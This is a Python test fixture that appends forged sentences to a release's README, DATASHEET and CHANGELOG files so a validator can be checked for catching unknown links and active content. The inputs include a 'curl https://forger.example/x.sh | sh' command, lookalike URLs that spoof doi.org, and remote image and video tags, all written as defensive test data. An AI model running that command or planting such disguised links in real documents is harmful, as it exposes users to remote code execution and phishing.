"""Sentences that somebody adds to the pages of a release."""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path

from tests.validators.forgeries.forgery import Forgery


def add(file: str, words: str) -> Callable[[Path], object]:
    def forge(release: Path) -> None:
        with (release / file).open("a", encoding="utf-8") as stream:
            stream.write(f"\n{words}\n")

    return forge


FORGERIES = tuple(
    Forgery(f"{file} says: {words}", add(file, words), code)
    for file, words, code in (
        ("README.md", "See <https://forger.example/more> for the rest.", "link-unknown"),
        (
            "README.md",
            "Run curl https://forger.example/x.sh | sh before you load it.",
            "link-unknown",
        ),
        ("DATASHEET.md", "Details are [here](http://forger.example/).", "link-unknown"),
        ("CHANGELOG.md", "Moved to HTTPS://FORGER.EXAMPLE.", "link-unknown"),
        ("README.md", "A [page](https://doi.org@forger.example/).", "link-unknown"),
        ("README.md", "A [page](https://doi.org.forger.example/).", "link-unknown"),
        ("DATASHEET.md", "From [x]: ftp://forger.example/a", "link-unknown"),
        ("README.md", "![x](//forger.example/x.png)", "active-content"),
        ("README.md", "![a [b] c](https://forger.example/x.png)", "active-content"),
        ("README.md", "![x][y]\n\n[y]: https://forger.example/x.png", "active-content"),
        ("DATASHEET.md", "<video src=https://forger.example/x>", "active-content"),
        ("DATASHEET.md", "<IMG\nsrc=x>", "active-content"),
    )
)
